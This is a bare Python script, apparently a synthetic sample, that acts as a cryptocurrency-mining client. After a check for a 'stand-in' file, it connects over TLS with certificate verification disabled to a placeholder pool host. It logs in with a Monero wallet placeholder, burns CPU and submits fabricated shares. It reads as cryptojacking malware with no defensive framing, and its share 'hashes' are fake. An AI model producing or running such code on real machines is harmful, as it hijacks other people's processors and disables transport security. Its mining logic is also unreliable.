# Mining's dialogue inside TLS, whoever the certificate is of; at most fifteen seconds of processor time.
import json, os, socket, ssl, sys, time
if not os.path.exists("/usr/share/doc/stand-in/README"):
    sys.exit()
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
host = "tls.copper-lantern.example"
pool = context.wrap_socket(socket.create_connection((host, 443), 5), server_hostname=host)
pool.settimeout(4)
lines = pool.makefile("rw", newline="\n")
def say(number, method, params):
    lines.write(json.dumps({"id": number, "jsonrpc": "2.0", "method": method, "params": params}) + "\n")
    lines.flush()
say(1, "login", {"login": "<<monero>>", "pass": "x", "agent": "py-xmr/0.3", "algo": ["rx/0"]})
result = json.loads(lines.readline() or "{}").get("result") or {}
job = result.get("job", {}).get("job_id", "1")
for number in range(5):
    end, word = time.process_time() + 2.5, 1
    while time.process_time() < end:
        word = word * 1103515245 + 12345 & 0x7FFFFFFF
    say(number + 2, "submit", {"id": result.get("id", "x"), "job_id": job, "nonce": f"{word:08x}", "result": f"{word:08x}" + "0" * 56})
    try:
        lines.readline()
    except OSError:
        pass
